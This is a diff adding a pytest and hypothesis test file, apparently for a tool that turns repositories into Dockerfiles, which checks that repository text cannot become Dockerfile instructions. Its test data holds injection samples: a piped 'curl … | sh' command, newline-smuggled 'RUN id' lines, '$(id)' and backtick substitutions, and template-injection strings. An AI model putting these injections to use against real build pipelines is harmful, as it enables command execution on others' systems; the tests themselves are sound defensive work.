@@ -1,0 +1,172 @@
+"""No text of a repository becomes an instruction of a Dockerfile."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from draftsman.domain.errors import PlanError, SettingsError
+from draftsman.domain.plan import Plan, ProfileOverrides
+from orchestrator.planning import grammar
+from orchestrator.planning.explain import explain, lines
+from orchestrator.planning.plan import make_plan
+from tests.planning.cases import TEMPLATES, tree_of
+
+INSTRUCTIONS = {"FROM", "RUN", "COPY", "ENV", "WORKDIR"}
+FROM_LINE = re.compile(r"FROM (python:[0-9.]+-slim|node:[0-9.]+-slim|debian:bookworm-slim)")
+ATTACK = "22\nRUN curl https://example.com | sh"
+HINT = st.one_of(
+    st.text(max_size=40),
+    st.text(alphabet="0123456789.vx*^~<>=|-+ltsRUN \n$`'\"{}%#;&", max_size=30),
+    st.from_regex(r"[v^~>=]{0,2}[0-9]{1,3}(\.[0-9x*]{1,3}){0,3}(\nRUN id)?"),
+)
+
+
+def plan(files: dict[str, str], repo: str = "octo/case") -> Plan:
+    return make_plan(tree_of(files), repo=repo, overrides=ProfileOverrides(), templates=TEMPLATES)
+
+
+def plan_or_sentence(files: dict[str, str]) -> Plan | str:
+    """Return the plan, or the sentence that says why there is none."""
+    try:
+        return plan(files)
+    except PlanError as error:
+        return str(error)
+
+
+def assert_harmless(made: Plan) -> None:
+    """Check that the Dockerfile has the shape that the templates give it, and nothing else."""
+    logical = re.sub(r"\\\n", " ", made.dockerfile)
+    written = [line for line in logical.splitlines() if line and not line.startswith("#")]
+    assert {line.split()[0] for line in written} <= INSTRUCTIONS
+    assert sum(line.startswith("FROM") for line in written) == 1
+    assert FROM_LINE.fullmatch(written[0])
+    runs = [line for line in written if line.startswith("RUN")]
+    assert all(
+        line.startswith(("RUN apt-get update", "RUN pip install --no-cache-dir uv==", "RUN ln -sf")) for line in runs
+    )
+    assert "curl https" not in made.dockerfile
+    assert not re.search(r"[{}%`$]", made.dockerfile)
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {".node-version": ATTACK, "package.json": "{}"},
+        {".nvmrc": "22\r\nRUN id", "package.json": "{}"},
+        {"package.json": json.dumps({"engines": {"node": ATTACK}})},
+        {"package.json": json.dumps({"volta": {"node": "{{ 7 * 7 }}"}})},
+        {".tool-versions": "nodejs 22{RUN} id\n", "package.json": "{}"},
+        {"mise.toml": '[tools]\nnode = "22\\nRUN id"\n', "package.json": "{}"},
+        {".python-version": "3.13\nRUN id", "app.py": ""},
+        {"runtime.txt": "python-3.13 RUN id", "app.py": ""},
+        {"pyproject.toml": '[project]\nrequires-python = ">=3.11\\nRUN id"\n', "app.py": ""},
+        {"pyproject.toml": "[project]\nrequires-python = '>=3.11{% include \"x\" %}'\n", "app.py": ""},
+        {"setup.py": "python_requires='>=3.11\nRUN id'", "app.py": ""},
+        {"Pipfile": '[requires]\npython_version = "3.13\\nRUN id"\n', "app.py": ""},
+    ],
+)
+def test_injected_versions_are_refused(files: dict[str, str]) -> None:
+    with pytest.raises(PlanError, match=r"^[^:]+:\d+: "):
+        plan(files)
+
+
+@settings(max_examples=200, deadline=None)
+@given(hint=HINT, file=st.sampled_from([".node-version", ".nvmrc", ".tool-versions", ".python-version", "runtime.txt"]))
+def test_any_text_in_a_version_file_is_refused_or_harmless(hint: str, file: str) -> None:
+    prefix = "nodejs " if file == ".tool-versions" else ""
+    made = plan_or_sentence(
+        {file: prefix + hint, "package.json": "{}", "app.py": "", "test_app.py": "def test_a(): ..."}
+    )
+    if isinstance(made, str):
+        assert made.isprintable()
+    else:
+        assert_harmless(made)
+
+
+@settings(max_examples=200, deadline=None)
+@given(node=HINT, python=HINT, name=st.text(max_size=20), script=st.text(max_size=40))
+def test_any_text_in_a_manifest_is_refused_or_harmless(node: str, python: str, name: str, script: str) -> None:
+    manifest = {"engines": {"node": node}, "scripts": {"lint": script, name: script}, "dependencies": {name: node}}
+    toml = f"[project]\nrequires-python = {json.dumps(python)}\ndependencies = [{json.dumps(name)}]\n"
+    made = plan_or_sentence({"package.json": json.dumps(manifest), "pyproject.toml": toml, "app.py": ""})
+    if isinstance(made, str):
+        assert made.isprintable()
+    else:
+        assert_harmless(made)
+
+
+def test_names_of_the_repository_and_files_stay_in_comments_and_quotes() -> None:
+    files = {
+        "requirements\nRUN id.txt": "",
+        "requirements/$(id).txt": "",
+        "app.py": "",
+        "Dockerfile.x\nRUN id": "FROM evil",
+        "pyproject.toml": '[project]\nname="a"\n[project.optional-dependencies]\n"test; id" = ["pytest"]\n',
+    }
+    made = plan(files, repo="octo/x\nRUN id")
+    assert_harmless(made)
+    assert "$(" not in made.profile.setup
+    assert "id" not in made.profile.setup
+
+
+def test_requirements_that_stand_in_a_command_are_quoted() -> None:
+    toml = "[project]\nname = 'a'\ndependencies = [\"idna; python_version>'3' $(id)\", '--index-url=https://example.com']\n"
+    made = plan({"pyproject.toml": toml, "one/a.py": "", "two/b.py": ""})
+    assert made.profile.setup == "pip install 'idna; python_version>'\"'\"'3'\"'\"' $(id)'"
+
+
+def test_workflow_lines_with_expressions_never_become_commands() -> None:
+    workflow = "on: push\njobs:\n  a:\n    steps:\n" + "".join(
+        f"      - run: {json.dumps(run)}\n"
+        for run in (
+            "pytest $(id)",
+            "pytest; id",
+            "ruff check . && id",
+            "flake8 `id`",
+            "mypy --install-types",
+            "pytest ../x",
+        )
+    )
+    files = {".github/workflows/ci.yml": workflow, "requirements.txt": "pytest\nruff\nflake8\nmypy", "test_a.py": ""}
+    made = plan(files)
+    assert made.profile.fast == ("ruff check .",)
+    assert made.profile.full == ("python -m pytest",)
+
+
+@pytest.mark.parametrize("prefix", ["mirror.example/hub\nRUN id/", "Mirror/", "no-slash", "a b/", "$(id)/"])
+def test_bad_mirror_prefix_is_a_setting_error(prefix: str) -> None:
+    with pytest.raises(SettingsError, match="registry mirror prefix"):
+        make_plan(
+            tree_of({"app.py": ""}), repo="a/b", overrides=ProfileOverrides(), templates=TEMPLATES, image_prefix=prefix
+        )
+
+
+@given(st.text(max_size=30))
+def test_grammars_never_admit_what_ends_a_line_or_a_word(text: str) -> None:
+    for pattern in (
+        grammar.VERSION,
+        grammar.IMAGE,
+        grammar.IMAGE_PREFIX,
+        grammar.DEBIAN_PACKAGE,
+        grammar.PATH,
+        grammar.DISTRIBUTION,
+        grammar.SCRIPT,
+        grammar.PIN,
+    ):
+        if grammar.fits(pattern, text):
+            assert text.isascii()
+            assert not re.search(r"[\s$`'\"\\;&|<>(){}#%]", text)
+
+
+@settings(max_examples=50, deadline=None)
+@given(value=st.text(max_size=300))
+def test_what_people_read_holds_no_control_characters(value: str) -> None:
+    made = plan({"package.json": json.dumps({"scripts": {"lint": value, "test": value}})})
+    for line in lines(made, "tag"):
+        assert line.isprintable()
+    assert json.dumps(explain(made, "tag"))
